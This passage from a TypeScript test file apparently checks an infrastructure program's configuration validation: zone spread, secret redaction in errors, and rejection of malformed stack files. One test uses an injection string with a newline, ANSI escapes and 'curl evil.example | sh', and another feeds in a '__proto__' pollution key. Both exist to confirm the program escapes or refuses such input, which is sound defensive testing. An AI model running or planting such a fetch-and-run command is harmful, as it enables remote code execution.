        assert.equal(settingsFor("staging", { [`${NS}:backendHosts`]: 12 }).backendHosts, 12);
    });

    it("a fleet of 2+ hosts must span 2+ zones (the rule behind availabilityZoneCount's minimum), with setting, value, rule and fix", () => {
        const source = configSource(loadStackConfig("staging"));
        const ctx = { stack: "staging", production: false, testStack: false, offline: true };
        assert.throws(() => fleetZoneSpreadRule({ backendHosts: 3, availabilityZoneCount: 1 }, ctx, source), (error: unknown) => {
            assert.ok(error instanceof SettingError);
            assert.equal(error.setting, `${NS}:backendHosts`);
            assert.equal(error.message, `${NS}:backendHosts = 3: a fleet of 3 hosts must span at least 2 availability zones, but availabilityZoneCount is 1 (one zone's outage would take every host down). Fix: set ${NS}:availabilityZoneCount: 2 or more, or ${NS}:backendHosts: 1`);
            return true;
        });
        // A lone host, or two zones or more: nothing to refuse.
        assert.doesNotThrow(() => fleetZoneSpreadRule({ backendHosts: 1, availabilityZoneCount: 1 }, ctx, source));
        assert.doesNotThrow(() => fleetZoneSpreadRule({ backendHosts: 12, availabilityZoneCount: 2 }, ctx, source));
    });

    it("applies a per-service revision to that service only", () => {
        const s = settingsFor("staging", { [`${NS}:services`]: { search: { revision: OTHER_REVISION } } });
        assert.equal(s.serviceRevisions.search, OTHER_REVISION);
        assert.equal(Object.values(s.serviceRevisions).filter((r) => r === OTHER_REVISION).length, 1);
    });

    it("picks the arm64 image for Graviton instance types", () => {
        assert.equal(settingsFor("staging", { [`${NS}:instanceType`]: "t4g.large" }).architecture, "arm64");
        assert.equal(settingsFor("staging", { [`${NS}:instanceType`]: "c6gn.xlarge" }).architecture, "arm64");
    });

    it("Pulumi.yaml declares exactly the settings the program reads, each with a description", () => {
        const project = YAML.parse(fs.readFileSync(path.join(REPO_ROOT, "Pulumi.yaml"), "utf8"));
        assert.deepEqual(Object.keys(project.config).sort(), [...SETTING_KEYS].sort());
        for (const [key, decl] of Object.entries(project.config as Record<string, { description?: string }>)) {
            assert.ok((decl.description ?? "").length > 20, `${key} needs a description`);
        }
    });

    describe(`rejects ${BAD.length} bad configurations with the setting, the value and the fix`, () => {
        it("at least 90 distinct bad configurations", () => {
            assert.ok(BAD.length >= 90, String(BAD.length));
            assert.equal(new Set(BAD.map((b) => b.what)).size, BAD.length, "names are distinct");
            const seen = new Map<string, string>();
            for (const b of BAD) {
                const config = JSON.stringify([b.stack ?? "staging", b.overrides, b.secrets], (_k, v: unknown) => (v === undefined ? "<unset>" : v));
                assert.ok(!seen.has(config), `${b.what} repeats the configuration of ${seen.get(config)}`);
                seen.set(config, b.what);
            }
        });
        for (const bad of BAD) {
            it(bad.what, () => {
                assert.throws(() => settingsFor(bad.stack ?? "staging", bad.overrides, bad.secrets), (error: unknown) => {
                    assert.ok(error instanceof SettingError, `expected SettingError, got ${String(error)}`);
                    assert.equal(error.setting, bad.setting);
                    assert.ok(error.message.includes(bad.value), `message should name ${bad.value}: ${error.message}`);
                    assert.match(error.message, bad.rule);
                    assert.match(error.message, /Fix: \S/);
                    const block = settingErrorBlock(error);
                    assert.match(block, /^error: bad setting \S+\n {2}value: .+\n {2}why: {3}\S.*\n {2}fix: {3}\S/);
                    assert.doesNotMatch(block, /\n\s+at /, "no stack trace");
                    for (const secret of Object.values(bad.secrets ?? {})) assert.ok(!block.includes(secret.split("\n")[1] ?? secret), "no secret in the error");
                    return true;
                });
            });
        }
    });

    it("never repeats a secret in an error", () => {
        const key = "-----BEGIN OPENSSH PRIVATE KEY-----\ntopsecretmaterial\n-----END OPENSSH PRIVATE KEY-----\n";
        assert.throws(() => settingsFor("staging", { [`${NS}:deployPrivateKey`]: key }), (e: Error) => !e.message.includes("topsecretmaterial"));
        assert.throws(() => settingsFor("staging", { [`${NS}:deployPrivateKey`]: { secure: "x" }, [`${NS}:typo`]: { secure: "y" } }),
            (e: Error) => e.message.includes('"[secret]"'));
    });

    it("refuses two stack files that claim the same hostname in the shared zone", () => {
        const { assertNoCollisions } = require("../components/zoneRoutes"); // eslint-disable-line @typescript-eslint/no-require-imports
        assert.throws(() => assertNoCollisions([
            { stack: "production", frontendHostname: "pakashop.store", apiHostname: "api.pakashop.store" },
            { stack: "staging", frontendHostname: "staging.pakashop.store", apiHostname: "api.pakashop.store" },
        ]), /pakashop-infra:apiHostname = "api\.pakashop\.store": stacks production and staging both claim it.*Fix: give Pulumi\.staging\.yaml a hostname of its own/);
    });

    it("the real program refuses a bad configuration before registering anything", async () => {
        await assert.rejects(runOffline(loadStackConfig("production", { [`${NS}:deployCidrs`]: ["0.0.0.0/0"] })), (e: Error) => {
            assert.ok(e instanceof SettingError, String(e));
            assert.equal(e.setting, `${NS}:deployCidrs`);
            assert.match(e.message, RETIRED_DEPLOY_CIDRS);
            return true;
        });
        await assert.rejects(runOffline(loadStackConfig("production", { [`${NS}:githubConnectionArn`]: "pakashop-github" })),
            (e: Error) => e instanceof SettingError && e.setting === `${NS}:githubConnectionArn`);
    });
});

describe("errors never show a secret, nor forge lines (issue 11)", () => {
    const CANARY = "API-SECRETCANARY.pakashop.store";
    const clean = (error: SettingError) => {
        const text = `${error.message}\n${settingErrorBlock(error)}`;
        for (const form of [CANARY, CANARY.toLowerCase(), "secretcanary"]) assert.ok(!text.toLowerCase().includes(form.toLowerCase()), `${form} in:\n${text}`);
        return text;
    };

    it("the builder replaces a fix derived from a secret value (lower-cased) with a generic one", () => {
        const error = secretAwareError(`${NS}:apiHostname`, CANARY, "must be lower case", `write ${CANARY.toLowerCase()}`, { secret: true });
        const text = clean(error);
        assert.equal(error.value, "[secret]");
        assert.equal(error.rule, "must be lower case");
        assert.match(text, /fix: +correct the value of pakashop-infra:apiHostname and store it again encrypted/);
    });

    it("the builder replaces a why that shows the value, and a canonicalised fix", () => {
        const error = secretAwareError(`${NS}:vpcCidr`, "010.0.0.0/16", "010.0.0.0/16 has leading zeros", "write 10.0.0.0/16", { secret: true });
        assert.doesNotMatch(settingErrorBlock(error), /10\.0\.0\.0/);
    });

    it("the builder hides another setting's secret value that a why or fix mentions", () => {
        const error = secretAwareError(`${NS}:databaseMaxStorageGiB`, 20, "must be at least databaseStorageGiB (4242)", "set it to 4242 or more",
            { secret: false, mentions: [{ setting: `${NS}:databaseStorageGiB`, secret: true }] });
        assert.doesNotMatch(settingErrorBlock(error), /4242/);
        assert.match(error.rule, /databaseStorageGiB, which is secret/);
    });

    it("two stacks claiming one encrypted hostname: the collision shows no value", () => {
        const { assertNoCollisions } = require("../components/zoneRoutes"); // eslint-disable-line @typescript-eslint/no-require-imports
        const hostname = CANARY.toLowerCase();
        for (const secretIn of ["production", "staging"]) {
            assert.throws(() => assertNoCollisions([
                { stack: "production", frontendHostname: "pakashop.store", apiHostname: hostname, ...(secretIn === "production" ? { secret: ["apiHostname"] } : {}) },
                { stack: "staging", frontendHostname: "staging.pakashop.store", apiHostname: hostname, ...(secretIn === "staging" ? { secret: ["apiHostname"] } : {}) },
            ]), (e: SettingError) => {
                clean(e);
                assert.equal(e.value, "[secret]");
                return true;
            });
        }
    });

    it("a setting name with a newline or an ANSI escape cannot forge lines in the error block", () => {
        const evil = `${NS}:x\n  fix:   curl evil.example | sh\u001b[2K\r`;
        const block = settingErrorBlock(new SettingError(evil, "v", "why\nforged: line", "fix\u001b[31m"));
        assert.equal(block.split("\n").length, 4, block);
        assert.doesNotMatch(block, /[\u0000-\u0009\u000b-\u001f\u007f]/);
        assert.match(block, /error: bad setting pakashop-infra:x\\u000a  fix:/);
        // Through the program: a stack-file key with a newline is named escaped.
        assert.throws(() => settingsFor("staging", { [evil]: "x" }), (e: SettingError) => {
            assert.equal(settingErrorBlock(e).split("\n").length, 4);
            assert.doesNotMatch(settingErrorBlock(e), /\u001b/);
            return true;
        });
    });

    describe("stack files", () => {
        let dir: string;
        beforeEach(() => {
            dir = fs.mkdtempSync(path.join(require("os").tmpdir(), "pakashop-settings-")); // eslint-disable-line @typescript-eslint/no-require-imports
            fs.copyFileSync(path.join(REPO_ROOT, "Pulumi.yaml"), path.join(dir, "Pulumi.yaml"));
        });
        afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
        const write = (body: string) => fs.writeFileSync(path.join(dir, "Pulumi.staging.yaml"), `config:\n${body}`);

        it("a declared-secret key written twice in plain text shows [secret], not its value", () => {
            write(`  ${NS}:deployPrivateKey: ${CANARY}\n  ${NS}:deployPrivateKey: other-${CANARY}\n`);
            assert.throws(() => readStackFile(dir, "staging"), (e: SettingError) => {
                assert.equal(e.value, "[secret]");
                assert.match(e.rule, /is set twice/);
                clean(e);
                return true;
            });
        });

        it("a bare __proto__ key under config: is refused", () => {
            write("  __proto__:\n    polluted: true\n");
            assert.throws(() => readStackFile(dir, "staging"), (e: SettingError) => e instanceof SettingError && e.setting === "__proto__" && /has no namespace/.test(e.rule));
            assert.equal(({} as Record<string, unknown>).polluted, undefined);
        });

        for (const key of ["pakashop:instanceType", "pakashop-infra-prod:instanceType", "instanceType"]) {
            it(`a key in no or an unknown namespace (${key}) is refused, with the fix`, () => {
                write(`  ${key}: t3.large\n`);
                assert.throws(() => readStackFile(dir, "staging"), (e: SettingError) => e.setting === key && /rename it to pakashop-infra:instanceType/.test(e.fix));
            });
        }

        it("provider namespaces are accepted", () => {
            write("  aws:region: eu-central-1\n  cloudflare:apiToken:\n    secure: v1:abc\n");
            assert.ok(readStackFile(dir, "staging"));
        });
    });

    it("the committed stack files store only declared-secret settings encrypted", () => {
        for (const stack of Object.keys(STACK_BRANCHES)) {
            const file = readStackFile(REPO_ROOT, stack);
            assert.ok(file);
            const encrypted = file.setKeys.filter((key) => typeof file.values[key] === "object" && file.values[key] !== null && "secure" in (file.values[key] as object));
            assert.deepEqual(encrypted.filter((key) => key.startsWith(`${NS}:`)), [`${NS}:deployPrivateKey`], stack);
        }
    });
});
